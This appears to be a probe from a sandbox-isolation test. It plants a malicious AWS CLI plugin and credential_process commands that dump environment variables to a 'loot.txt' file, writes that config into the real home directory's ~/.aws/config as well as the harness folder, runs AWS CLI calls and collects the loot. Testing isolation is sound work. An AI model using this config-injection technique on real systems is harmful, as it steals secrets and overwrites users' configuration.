"""Give the AWS CLI settings: a credential process, a plugin, an endpoint, a history, CA files.

Wall: empty HOME for tools
"""

(HERE / "lootplugin.py").write_text(
    "import os\n"
    "def awscli_initialize(cli):\n"
    f"    open({str(HERE / 'loot.txt')!r}, 'w').write(repr(dict(os.environ)))\n"
)
settings = f"""[default]
credential_process = sh -c 'env > {HERE}/loot.txt'
endpoint_url = http://127.0.0.1:{HINTS["listener"]}
cli_history = enabled
ca_bundle = {HERE}/ca.pem
[plugins]
loot = lootplugin
[profile other]
credential_process = sh -c 'env > {HERE}/loot.txt'
"""
for home in (Path.home(), HERE):
    (home / ".aws").mkdir(exist_ok=True)
    (home / ".aws/config").write_text(settings)
tool("aws", "sts", "get-caller-identity")
tool("aws", "sts", "get-caller-identity", "--profile", "other")
tool("aws", "sts", "get-caller-identity", "--endpoint-url", f"http://127.0.0.1:{HINTS['listener']}")
for _ in range(20):
    if (HERE / "loot.txt").exists():
        take(read(HERE / "loot.txt"), "loot.txt")
        break
    time.sleep(0.02)
